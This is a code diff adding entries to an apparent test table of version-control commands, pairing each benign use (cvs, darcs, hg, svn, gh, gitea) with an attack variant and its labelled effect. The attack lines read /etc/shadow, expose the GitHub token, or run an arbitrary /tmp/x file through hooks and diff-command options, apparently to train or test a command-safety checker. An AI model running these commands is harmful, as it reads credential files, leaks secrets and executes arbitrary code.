@@ -240,4 +240,43 @@ export const versionControl2: ExampleTable = {
     use: 'glab snippet create -t notes notes.txt → read notes.txt; send glab snippet create',
     attack: 'glab snippet create -t notes /etc/shadow → read /etc/shadow; send glab snippet create',
   },
+  cvs: {
+    use: 'cvs -d :pserver:ann@example.org:/cvs checkout app → nothing',
+    attack: 'cvs -e /tmp/x commit → run /tmp/x',
+  },
+  darcs: {
+    use: 'darcs record -m fix → nothing',
+    attack: 'darcs diff --diff-command /tmp/x → run /tmp/x',
+  },
+  hg: {
+    use: 'hg --config ui.username=ann status → nothing',
+    attack: 'hg --config hooks.pre-status=/tmp/x status → run /tmp/x',
+  },
+  svn: {
+    use: 'svn status → nothing',
+    attack: 'svn --config-option config:helpers:diff-cmd=/tmp/x diff → run /tmp/x',
+  },
+  svnserve: {
+    use: 'svnserve -d -r repositories → listen',
+  },
+  'gh auth status': {
+    use: 'gh auth status → nothing',
+    attack: 'gh auth status -t → privilege gh auth status; read secret://gh',
+  },
+  'gh issue': {
+    use: 'gh issue create -t bug -F body.md → read body.md',
+    attack: 'gh issue create -t bug -F /etc/shadow → read /etc/shadow',
+  },
+  'gh pr': {
+    use: 'gh pr create -t fix -F body.md → read body.md',
+    attack: 'gh pr create -t fix -F /etc/shadow → read /etc/shadow',
+  },
+  'gh variable': {
+    use: 'gh variable set -f vars.env → read vars.env',
+    attack: 'gh variable set -f /etc/shadow → read /etc/shadow',
+  },
+  gitea: {
+    use: 'gitea -c app.ini doctor check → read app.ini',
+    attack: 'gitea -c /etc/shadow doctor check → read /etc/shadow',
+  },
 }
